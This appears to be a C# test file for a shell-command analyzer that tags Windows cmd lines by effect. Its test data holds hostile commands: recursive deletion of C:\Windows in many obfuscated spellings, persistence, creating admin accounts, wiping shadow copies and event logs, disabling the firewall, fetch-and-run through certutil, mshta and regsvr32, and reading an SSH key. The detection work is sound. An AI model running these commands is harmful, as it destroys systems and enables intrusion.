using Pharos.Shell.Effects;
using Pharos.Shell.Effects.Languages.Cmd;

namespace Pharos.Shell.Tests.Effects.Languages.Cmd;

public sealed class CmdReaderTests
{
    [Fact]
    public void Every_program_of_windows_is_known_by_a_row()
    {
        foreach (var name in WindowsPrograms.Names)
        {
            WindowsPrograms.Find(name).ShouldNotBeNull();
        }

        WindowsPrograms.Names.Count().ShouldBeGreaterThan(150);
    }

    [Theory]
    [InlineData("echo del /s /q C:\\")]
    [InlineData("echo done & rem del x")]
    [InlineData("if not defined X (echo a) else (echo b)")]
    [InlineData("set A=b && echo %A% && ver")]
    [InlineData("systeminfo | findstr /i OS")]
    public void A_line_that_only_prints_has_no_effect(string line) => Reads.Words("cmd", "/c", line).Effects().ShouldBeEmpty();

    [Theory]
    [InlineData("rd /s /q C:\\Windows")]
    [InlineData("RMDIR C:\\Windows /S /Q")]
    [InlineData("r^d /s /q C:\\Windows")]
    [InlineData("\"rd\" /s C:\\Windows")]
    [InlineData("rd/s/q C:\\Windows", false)]
    [InlineData("echo x & rd /s C:\\Windows")]
    [InlineData("echo x&&rd /s C:\\Windows")]
    [InlineData("ver || rd /s C:\\Windows")]
    [InlineData("ver\nrd /s C:\\Windows")]
    [InlineData("@rd /s C:\\Windows")]
    [InlineData("(rd /s C:\\Windows)")]
    [InlineData("if exist x rd /s C:\\Windows")]
    [InlineData("if /i \"%a%\"==\"b\" (rd /s C:\\Windows)")]
    [InlineData("if 1 equ 1 rd /s C:\\Windows")]
    [InlineData("for %i in (1 2) do rd /s C:\\Windows")]
    [InlineData("call rd /s C:\\Windows")]
    [InlineData("set x=rd&& call %x% /s C:\\Windows")]
    [InlineData("set a=r&set b=d&cmd /v:on /c !a!!b! /s C:\\Windows")]
    [InlineData("set x=abrdxy&& %x:~2,2% /s C:\\Windows")]
    [InlineData("cmd /c rd /s C:\\Windows")]
    [InlineData("%COMSPEC% /c \"rd /s C:\\Windows\"")]
    [InlineData("C:\\Windows\\System32\\cmd.exe /c rd /s C:\\Windows")]
    [InlineData("start /b cmd /c rd /s C:\\Windows")]
    [InlineData("schtasks /create /tn x /sc daily /tr \"rd /s C:\\Windows\"")]
    [InlineData("forfiles /c \"cmd /c rd /s C:\\Windows\"")]
    [InlineData("wmic process call create \"cmd /c rd /s C:\\Windows\"")]
    [InlineData("powershell -c Remove-Item -Recurse C:\\Windows")]
    public void A_destruction_is_found_in_every_spelling(string line, bool recursive = true)
    {
        // A backslash is kept by single quotes.
        var effects = Sandbox.Analyze("cmd.exe /c '" + line + "'").Effects;
        effects.ShouldContain(effect => effect.Kind == EffectKind.Delete && effect.Target == "C:\\Windows" && (effect.IsRecursive || !recursive));
    }

    [Theory]
    [InlineData("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", "Persist Certain HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")]
    [InlineData("schtasks /create /tn x /tr calc /sc daily", "Persist Certain schtasks")]
    [InlineData("net user evil P /add", "Escalate Certain net user")]
    [InlineData("net localgroup administrators evil /add", "Escalate Certain net localgroup")]
    [InlineData("bcdedit /set {default} recoveryenabled no", "Weaken Certain bcdedit")]
    [InlineData("vssadmin delete shadows /all /quiet", "Weaken Certain vssadmin delete")]
    [InlineData("wevtutil cl Security", "Weaken Certain wevtutil cl")]
    [InlineData("certutil -urlcache -split -f http://x/y z.exe", "Download Certain http://x/y")]
    [InlineData("certutil -urlcache -split -f http://x/y z.exe", "Write Certain /workspace/z.exe")]
    [InlineData("bitsadmin /transfer j http://x/y C:\\z.exe", "Download Certain http://x/y")]
    [InlineData("mshta http://x/y.hta", "Download Certain http://x/y.hta")]
    [InlineData("regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll", "Download Certain http://x/y.sct")]
    [InlineData("rundll32 javascript:x", "Execute Unknown rundll32")]
    [InlineData("format C: /y", "WriteDevice Certain /dev/disk")]
    [InlineData("del /s /q src\\*.obj", "Delete Certain /workspace/src")]
    [InlineData("echo x > out.txt 2>&1", "Write Certain /workspace/out.txt")]
    [InlineData("type C:\\Users\\a\\.ssh\\id_rsa", "ExposeSecret Certain C:\\Users\\a\\.ssh\\id_rsa")]
    [InlineData("copy x.exe \"C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe\"", "Persist Certain C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe")]
    [InlineData("sc create x binPath= y", "Persist Certain sc create")]
    [InlineData("taskkill /f /im x.exe", "ControlProcess Certain x.exe")]
    [InlineData("netsh advfirewall set allprofiles state off", "Weaken Certain netsh")]
    [InlineData("icacls C:\\ /grant Everyone:F", "Weaken Certain icacls")]
    [InlineData("%UNKNOWN% x", "Execute Unknown cmd %UNKNOWN%")]
    [InlineData("for /f %i in (x.txt) do %i", "Execute Unknown cmd %i")]
    [InlineData(".\\build.bat", "Execute Certain /workspace/build.bat")]
    public void What_a_line_does_is_named(string line, string effect) =>
        Sandbox.Analyze("cmd /c '" + line + "'").Effects.Select(static found => $"{(found.Certainty == Certainty.Possible ? found with { Certainty = Certainty.Certain } : found) switch { var e => $"{e.Kind} {e.Certainty} {e.Target}" }}").ShouldContain(effect);

    [Fact]
    public void What_is_fetched_and_run_is_a_flow() =>
        Sandbox.Analyze("cmd /c 'mshta http://x/y.hta'").Flows.ShouldContain(static flow => flow.Kind == FlowKind.DownloadToInterpreter && flow.From == "http://x/y.hta");

    [Fact]
    public void An_unknown_program_is_unknown() => Sandbox.Analyze("cmd /c 'frobnicate x'").Effects.ShouldContain(static effect => effect.Kind == EffectKind.Execute && effect.Certainty == Certainty.Unknown);
}
